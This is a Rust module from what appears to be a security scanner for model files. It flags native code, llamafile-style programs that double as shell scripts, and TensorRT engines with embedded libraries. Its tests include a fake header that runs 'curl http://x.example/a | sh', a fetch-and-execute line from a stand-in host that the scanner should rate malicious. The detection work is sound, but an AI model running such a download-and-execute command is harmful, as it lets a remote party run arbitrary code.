//! Native code and programs that are archives too: what stands there can't be judged, but that it stands there can.
//!
//! References: ELF, PE and Mach-O magic numbers; Cosmopolitan's APE specification (`ape/specification.md`), which
//! llamafile uses: a PE header that is also the start of a shell script.

use crate::context::{Context, Piece};
use crate::finding::{Finding, Severity};
use crate::shell::{self, Command};
use crate::slice::{for_each_piece, read};

/// The start of an APE: a DOS header that a shell reads as an assignment.
const APE_STARTS: [&[u8]; 2] = [b"MZqFpD='", b"jartsr='"];
/// Bytes of an APE that may be its script.
const SCRIPT_BYTES: usize = 64 << 10;
/// Bytes of an engine that are searched for a library.
const ENGINE_BYTES_MAX: u64 = 512 << 20;

pub fn is_ape(head: &[u8]) -> bool {
    APE_STARTS.iter().any(|start| head.starts_with(start))
}

/// What kind of native code starts here.
pub fn kind(head: &[u8]) -> Option<&'static str> {
    let pe = || {
        let at = head.get(0x3c..0x40).map(|at| u32::from_le_bytes([at[0], at[1], at[2], at[3]]) as usize)?;
        (head.get(at..at.checked_add(4)?)? == b"PE\0\0").then_some("pe")
    };
    match head {
        [0x7f, b'E', b'L', b'F', 1 | 2, 1 | 2, 1, ..] => Some("elf"),
        [0xcf | 0xce, 0xfa, 0xed, 0xfe, ..] | [0xfe, 0xed, 0xfa, 0xce | 0xcf, ..] => Some("mach-o"),
        [b'M', b'Z', ..] => pe(),
        [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 1..=20, ..] => Some("mach-o"),
        [0, b'a', b's', b'm', 1, 0, 0, 0, ..] => Some("wasm"),
        _ => None,
    }
}

/// A program that is also an archive or something else that a reader takes: said beside what the reader says.
pub fn beside(piece: &Piece<'_>, context: &mut Context<'_>) {
    let head = read(piece.source, 0, 4 << 10);
    if is_ape(&head) {
        return ape(piece, context);
    }
    if let Some(kind) = kind(&head) {
        let finding = Finding::new("SNS-310", Severity::Medium, "the file is a program and an archive at once");
        context.report(finding.member(piece.member.as_deref()).text("kind", kind).loaders(&["whoever starts it"]));
    }
}

/// A llamafile, or another program of this kind.
pub fn ape(piece: &Piece<'_>, context: &mut Context<'_>) {
    let member = piece.member.as_deref();
    let head = read(piece.source, 0, SCRIPT_BYTES);
    let finding = Finding::new("SNS-602", Severity::Low, "a program for several systems that is also a shell script");
    context.report(finding.member(member).loaders(&["the shell, when the file is started"]));
    // A linker puts the DOS header's numbers behind the quote at once, and those hold zeros.
    let text = head.get(8..).unwrap_or_default();
    let text = &text[..text.iter().position(|byte| *byte == 0).unwrap_or(text.len())];
    let commands = text.split(|byte| *byte == b'\n').map(<[u8]>::trim_ascii).find(|line| line.len() > 2);
    if let Some(line) = commands
        && std::str::from_utf8(line).is_ok_and(|line| line.chars().all(|char| !char.is_control() || char == '\t'))
    {
        let title = "a shell script stands where the program's header belongs";
        let finding = Finding::new("SNS-602", Severity::Medium, title).member(member).text("line", line);
        context.report(finding.at(8).loaders(&["the shell, when the file is started"]));
    }
    let script = String::from_utf8_lossy(&head).replace('\0', "\n");
    if let Some((what, line)) = script.lines().find_map(|line| match shell::judge(line) {
        Command::Payload(what) => Some((what, line)),
        _ => None,
    }) {
        let finding = Finding::new("SNS-602", Severity::High, format!("the program's script {what}"));
        context.report(finding.member(member).text("line", line).loaders(&["the shell, when the file is started"]));
    }
}

/// An engine whose runtime executes native code that is in it.
pub fn engine(piece: &Piece<'_>, format: &'static str, context: &mut Context<'_>) {
    let member = piece.member.as_deref();
    let finding = Finding::new("SNS-601", Severity::Low, "an engine is native code for its runtime");
    context.report(finding.member(member).text("format", format).loaders(&["TensorRT"]));
    let end = piece.source.len().min(ENGINE_BYTES_MAX);
    let (mut found, mut carry) = (None, Vec::new());
    for_each_piece(piece.source, 0, end, |at, bytes| {
        let base = at - carry.len() as u64;
        carry.extend_from_slice(bytes);
        let library = carry.windows(7).position(|window| matches!(window, [0x7f, b'E', b'L', b'F', 1 | 2, 1, 1]));
        found = library.map(|index| base + index as u64);
        carry.drain(..carry.len().saturating_sub(6));
        found.is_none()
    });
    if let Some(at) = found {
        let finding = Finding::new("SNS-601", Severity::Medium, "a native library is embedded in an engine");
        context.report(finding.member(member).at(at).loaders(&["TensorRT, when the engine is deserialised"]));
    }
}

/// A native library or program that lies beside a model.
pub fn loose(piece: &Piece<'_>, kind: &'static str, context: &mut Context<'_>) {
    let finding = Finding::new("SNS-601", Severity::Low, "native code");
    context
        .report(finding.member(piece.member.as_deref()).text("kind", kind).loaders(&["the operating system's loader"]));
}

#[cfg(test)]
mod tests {
    use crate::policy::Policy;
    use crate::source::MemorySource;
    use crate::{Limits, Report, Severity, Verdict};

    fn scan(bytes: &[u8], name: &str) -> Report {
        crate::scan(&MemorySource::new(bytes, name.as_bytes()), &Limits::default(), &Policy::default())
    }

    #[test]
    fn a_script_in_a_programs_header_is_told_from_a_linkers() {
        let real = [b"MZqFpD='\n\0\0\x10\0\xf8\0\0\0' <<'justine0'\n\0\0".as_slice(), &[0; 100]].concat();
        assert_eq!(scan(&real, "x.llamafile").verdict, Verdict::Unscannable);
        let fake = b"MZqFpD='\n\ntouch /tmp/x\n\0\0\0";
        assert_eq!(scan(fake, "x.llamafile").verdict, Verdict::Suspicious);
        let evil = b"MZqFpD='\n\0\0'\ncurl http://x.example/a | sh\n\0\0\0";
        assert_eq!(scan(evil, "x").verdict, Verdict::Malicious);
    }

    #[test]
    fn engines_and_libraries() {
        let engine = [b"ftrt\0\0\0\0".as_slice(), &[1; 300_000], b"\x7fELF\x02\x01\x01\0", &[0; 64]].concat();
        let report = scan(&engine, "x.engine");
        assert_eq!(report.verdict, Verdict::Suspicious, "{:?}", report.findings);
        assert_eq!(scan(&engine[..100], "x.engine").verdict, Verdict::Unscannable);
        let library = [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0; 64]].concat();
        assert_eq!(scan(&library, "libx.so").findings[0].severity, Severity::Low);
        assert_eq!(scan(&library, "model.pt").verdict, Verdict::Suspicious);
    }
}
